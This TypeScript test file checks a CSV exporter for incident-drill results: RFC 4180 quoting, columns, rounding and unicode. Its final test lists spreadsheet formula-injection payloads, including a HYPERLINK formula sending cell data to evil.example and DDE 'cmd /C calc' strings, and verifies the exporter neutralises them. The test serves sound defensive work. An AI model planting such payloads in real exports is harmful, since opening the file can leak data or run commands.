/**
 * The results CSV: RFC 4180 that a strict parser reads back to the same values, in UTF-8 with a BOM for Excel, with
 * player-controlled text that can never run as a spreadsheet formula.
 */
import { describe, expect, it } from 'vitest';
import { CATEGORIES } from '../src/engine/policy/rubric';
import { CSV_COLUMNS, resultsCsv } from '../src/records/exports/csv';
import { personResult } from './support/person-results';

/**
 * A strict RFC 4180 reader: records end in CRLF, a quoted field doubles its quotes, and a quote anywhere else or a
 * bare LF outside quotes is an error, so the test fails on sloppy output rather than guessing.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  const field = (): string => {
    if (text[i] === '"') {
      let value = '';
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
          } else {
            i++;
            return value;
          }
        } else value += text[i++];
      }
    }
    const start = i;
    while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
      if (text[i] === '"' || text[i] === '\n') throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
      i++;
    }
    return text.slice(start, i);
  };
  while (i < text.length) {
    record.push(field());
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.slice(i, i + 2) !== '\r\n') throw new Error(`expected CRLF at ${i}`);
    i += 2;
    records.push(record);
    record = [];
  }
  if (record.length > 0) throw new Error('last record not ended by CRLF');
  return records;
}

function read(csv: string): Record<string, string>[] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const [header, ...rows] = parseCsv(csv.slice(1));
  expect(header).toEqual([...CSV_COLUMNS]);
  for (const row of rows) expect(row).toHaveLength(header!.length);
  return rows.map((row) => Object.fromEntries(header!.map((name, index) => [name, row[index]!])));
}

describe('the results CSV', () => {
  it('should write a header and one row per person per drill, with every column', () => {
    const csv = resultsCsv([
      personResult({ mistakes: ['silent-updates', 'no-clear-commander', 'silent-updates'] }),
      personResult({ person: { id: 'p-ben', displayName: 'Ben' }, responder: 'sarah', responderName: 'Sarah Chen', roles: ['communications'], rolesSource: 'suggested', teamId: null, credited: {}, deducted: {}, drillPoints: null }),
    ]);
    expect(csv.split('\r\n')[0]).toBe(
      '\uFEFFplayed_at,drill_id,kind,scenario_id,scenario_title,seed,difficulty,team_id,person_id,person,responder,responder_name,roles,role_ids,roles_source,rubric_id,result_version,overall,level,' +
        'triage_score,command_score,communication_score,resolution_score,verification_score,learning_score,mistakes,' +
        'own_share_percent,own_points_earned,own_points_lost,drill_points_earned,drill_points_lost',
    );
    const [ana, ben] = read(csv);
    expect(ana).toMatchObject({
      played_at: '2026-03-02T14:05:00.000Z',
      drill_id: 'drill-1',
      kind: 'group',
      scenario_id: 'checkout-launch',
      scenario_title: 'Checkout launch outage',
      seed: '42',
      difficulty: 'standard',
      team_id: 'team-payments',
      person_id: 'p-ana',
      person: 'Ana',
      responder: 'alex',
      rubric_id: 'default',
      result_version: '1',
      overall: '82',
      level: 'Ready with support',
      triage_score: '60',
      learning_score: '85',
      // Labels, not ids, once each.
      mistakes: 'Silent incident updates; No clear incident commander',
      responder_name: 'Alex Rivera',
      roles: 'Incident commander',
      role_ids: 'commander',
      roles_source: 'drill',
      // The own part readably: 15.5 of the 62 points the drill earned; 3 of its 12.4 lost, both positive amounts.
      own_share_percent: '25',
      own_points_earned: '15.5',
      own_points_lost: '3',
      drill_points_earned: '62',
      drill_points_lost: '12.4',
    });
    // An older record: the suggested role, labelled so, and no share where the drill's totals were not kept.
    expect(ben).toMatchObject({ team_id: '', person: 'Ben', responder: 'sarah', responder_name: 'Sarah Chen', roles: 'Communications', role_ids: 'communications', roles_source: 'suggested', mistakes: '', own_points_earned: '0', own_points_lost: '0', own_share_percent: '', drill_points_earned: '', drill_points_lost: '' });
    expect(CATEGORIES.map((c) => ben![`${c}_score`])).toEqual(['60', '65', '70', '75', '80', '85']);
  });

  it('should write only the header for no rows', () => {
    expect(read(resultsCsv([]))).toEqual([]);
  });

  it('should round off float noise in point totals', () => {
    const [row] = read(resultsCsv([personResult({ credited: { triage: 0.1, command: 0.2 }, deducted: { learning: -1 / 3 } })]));
    expect(row).toMatchObject({ own_points_earned: '0.3', own_points_lost: '0.33' });
  });

  it('should write points lost as positive amounts, like points earned, and role names with their ids beside them', () => {
    // As recorded: the points a person's commands lost are negative.
    const [row] = read(resultsCsv([personResult({ roles: ['commander', 'communications'], credited: { triage: 20 }, deducted: { communication: -30 }, drillPoints: { earned: 80, lost: 45 } })]));
    expect(row).toMatchObject({ own_points_earned: '20', own_points_lost: '30', drill_points_earned: '80', drill_points_lost: '45', own_share_percent: '25' });
    expect(row).toMatchObject({ roles: 'Incident commander; Communications', role_ids: 'commander; communications' });
  });

  it('should give a solo run’s own part as the whole drill: 100% and the drill’s points', () => {
    const [solo, older] = read(
      resultsCsv([
        personResult({ kind: 'solo', teamId: null, credited: { triage: 31 }, deducted: { communication: -30 }, drillPoints: { earned: 62, lost: 35 } }),
        personResult({ kind: 'solo', teamId: null, credited: { triage: 31 }, deducted: { communication: -30 }, drillPoints: null }),
      ]),
    );
    expect(solo).toMatchObject({ kind: 'solo', own_share_percent: '100', own_points_earned: '62', own_points_lost: '35', drill_points_earned: '62', drill_points_lost: '35' });
    // Recorded before the drill's totals were kept: still all of it, with the person's own recorded points.
    expect(older).toMatchObject({ own_share_percent: '100', own_points_earned: '31', own_points_lost: '30', drill_points_earned: '', drill_points_lost: '' });
  });

  it('should read back commas, quotes, line breaks and unicode exactly', () => {
    const awkward = ['Smith, Jane', 'Dwayne "The Rock" J.', 'two\r\nlines', 'lf\nonly', 'José Ñúñez 李雷 🚒', ' leading space', 'trailing,', '"', ''];
    const rows = awkward.map((name, index) =>
      personResult({ person: { id: `p-${index}`, displayName: name }, scenarioTitle: `Title ${name}`, seed: name, drillId: `d,${index}` }),
    );
    const back = read(resultsCsv(rows));
    expect(back.map((r) => r.person)).toEqual(awkward);
    expect(back.map((r) => r.scenario_title)).toEqual(awkward.map((n) => `Title ${n}`));
    expect(back.map((r) => r.seed)).toEqual(awkward);
    expect(back.map((r) => r.drill_id)).toEqual(awkward.map((_, i) => `d,${i}`));
  });

  it('should neutralise every field that a spreadsheet would run as a formula', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+cmd|\' /C calc\'!A0',
      '-2+3+cmd|\' /C calc\'!A0',
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '\t=1+1',
      '\r=1+1',
      '=1,2',
    ];
    const rows = hostile.map((name, index) =>
      personResult({
        person: { id: name, displayName: name },
        scenarioTitle: name,
        scenarioId: name,
        seed: name,
        difficulty: name,
        responder: name,
        rubricId: name,
        level: name,
        teamId: name,
        drillId: `${name}#${index}`,
        playedAt: name,
      }),
    );
    const back = read(resultsCsv(rows));
    const textColumns = ['played_at', 'drill_id', 'scenario_id', 'scenario_title', 'seed', 'difficulty', 'team_id', 'person_id', 'person', 'responder', 'rubric_id', 'level'];
    back.forEach((row, index) => {
      for (const column of textColumns) {
        const value = row[column]!;
        // The quote makes it text; the value after it is the original, so nothing is lost.
        expect(value, column).toMatch(/^'/);
        expect(value.slice(1), column).toBe(column === 'drill_id' ? `${hostile[index]}#${index}` : hostile[index]);
      }
    });
    // Harmless text is left as it is, and our own numbers are never prefixed.
    const [plain] = read(resultsCsv([personResult({ person: { id: 'p', displayName: 'Ana = Ben' }, credited: { triage: -2 } })]));
    expect(plain).toMatchObject({ person: 'Ana = Ben', own_points_earned: '-2' });
  });
});
